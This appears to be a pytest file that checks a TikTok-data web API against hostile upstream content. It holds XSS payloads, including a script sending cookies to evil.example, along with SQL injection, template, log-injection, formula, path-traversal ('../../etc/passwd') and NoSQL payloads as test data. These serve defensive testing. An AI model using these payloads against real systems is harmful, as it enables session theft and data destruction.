"""API10: what TikTok answers is as hostile as what clients send: it reaches them as text, or not at all."""

from __future__ import annotations

from typing import Any

import orjson
import pytest
from flask.testing import FlaskClient
from sqlalchemy import Engine, func, select

from store.models.users import UserRow
from store.models.videos import VideoRow
from store.upserts import write
from tests.webapi.conftest import Tenant
from tiktok.replies import Reply

TEXTS = {
    "a script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "a handler": '"><img src=x onerror=alert(1)>',
    "SQL": "'); DROP TABLE videos; -- \" ` ; UNION SELECT secret_digest FROM clients",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %(user)s {0.__class__}",
    "a formula": '=HYPERLINK("https://evil.example")',
    "directions": "\u202ereversed\u202c \u200b\ufeff",
    "control characters": "a\x01b\x1b[31mred\x07",
    "a line of a log": "ok\n2026-01-01 ERROR forged line\r\nSet-Cookie: x=1",
    "JSON": '"}],"is_admin":true,{"',
    "much": "\N{PILE OF POO}" * 2_000,
}
SOUND = {"id": "7000000000000000003", "title": "t", "authorName": "n"}


def post(video_id: str, **fields: Any) -> dict[str, Any]:
    author = {
        "id": "6784819479778378757",
        "uniqueId": "khaby.lame",
        "nickname": "Khaby",
        "secUid": "MS4wLjABAAAA",
    }
    return {
        "id": video_id, "desc": "d", "createTime": 1700000000, "author": author, "music": SOUND,
        "stats": {"playCount": 1, "diggCount": 1, "shareCount": 1, "commentCount": 1},
        "video": {"duration": 9},
    } | fields  # fmt: skip


def take_in(engine: Engine, *posts: Any) -> None:
    """Let the parsers read an answer, and the database keep what they found."""
    body = orjson.dumps({"itemList": posts, "hasMore": False, "cursor": "0", "statusCode": 0})
    write(engine, Reply(url="https://www.tiktok.com/api/post/item_list/", status=200, body=body).parsed.items)


def count(engine: Engine, row: type[VideoRow | UserRow]) -> int:
    with engine.connect() as connection:
        return connection.scalar(select(func.count()).select_from(row)) or 0


@pytest.mark.parametrize("name", list(TEXTS))
def test_a_hostile_text_comes_out_as_it_came_in_and_does_nothing(
    name: str, engine: Engine, http: FlaskClient, attacker: Tenant
) -> None:
    text = TEXTS[name]
    post_of_it = post("7000000000000000001", desc=text)
    post_of_it["author"] = post_of_it["author"] | {"nickname": text, "signature": text}

    take_in(engine, post_of_it, post("7000000000000000002"))
    video = http.get("/api/videos/7000000000000000001", headers=attacker.key)
    user = http.get("/api/users/khaby.lame", headers=attacker.key)

    assert video.get_json()["description"] == text
    assert user.get_json()["display_name"] in (text, "Khaby")
    for answer in (video, user):
        assert answer.content_type == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "\n" not in answer.text.strip()
        assert "Set-Cookie" not in answer.headers
    assert count(engine, VideoRow) == 2


@pytest.mark.parametrize(
    "value",
    [10**40, -5, 1.5, "1e400", "NaN", None, True, [], {}, "9" * 5_000, "1'; DROP TABLE videos", 2**63],
    ids=repr,
)
def test_a_counter_that_is_none_is_unknown_and_costs_no_other_row(
    value: Any, engine: Engine, http: FlaskClient, attacker: Tenant
) -> None:
    hostile = post("7000000000000000001")
    hostile["stats"] = dict.fromkeys(hostile["stats"], value)
    hostile["stats"] = orjson.loads(orjson.dumps(hostile["stats"], default=str)) if value != 10**40 else {}

    take_in(engine, hostile, post("7000000000000000002"))
    answer = http.get("/api/videos", headers=attacker.key)

    found = {video["id"]: video for video in answer.get_json()["videos"]}
    assert answer.status_code == 200
    assert found["7000000000000000002"]["views"] == 1
    views = found.get("7000000000000000001", {"views": None})["views"]
    assert views is None or 0 <= views < 2**63


@pytest.mark.parametrize(
    "video_id",
    ["", "../../etc/passwd", "1 OR 1=1", "-1", "9" * 400, "<b>", 0, None, [], {}, "\x00", "７０００"],
    ids=repr,
)
def test_an_id_that_is_none_is_not_kept_and_costs_no_other_row(
    video_id: Any, engine: Engine, http: FlaskClient, attacker: Tenant
) -> None:
    take_in(engine, post(video_id), post("7000000000000000002"))

    found = [video["id"] for video in http.get("/api/videos", headers=attacker.key).get_json()["videos"]]

    assert "7000000000000000002" in found
    assert all(one.isascii() and one.isdigit() and len(one) < 21 for one in found)


@pytest.mark.parametrize(
    "body",
    [
        b"", b"null", b"[" * 100_000, b'{"itemList": ' * 5_000, b'{"itemList": "text"}',
        b'{"itemList": [null, 1, "x", []]}', b'{"itemList": [{"id": {"$gt": ""}}]}', b"<html>" + b"<div>" * 50_000,
        b"\xff" * 10_000, b'{"a":' + b"9" * 200_000 + b"}",
    ],
    ids=range(10),
)  # fmt: skip
def test_an_answer_that_is_none_leaves_nothing(body: bytes, engine: Engine) -> None:
    write(engine, Reply(url="https://www.tiktok.com/api/post/item_list/", status=200, body=body).parsed.items)

    assert count(engine, VideoRow) == 0
    assert count(engine, UserRow) == 0


def test_a_name_that_is_half_a_character_does_not_break_a_list(
    engine: Engine, http: FlaskClient, attacker: Tenant
) -> None:
    body = (
        b'{"itemList": [' + orjson.dumps(post("7000000000000000001")).replace(b'"d"', b'"x\\ud83d y"') + b"]}"
    )
    write(engine, Reply(url="https://www.tiktok.com/api/post/item_list/", status=200, body=body).parsed.items)

    answer = http.get("/api/videos", headers=attacker.key)

    assert answer.status_code == 200
    answer.data.decode("utf-8")
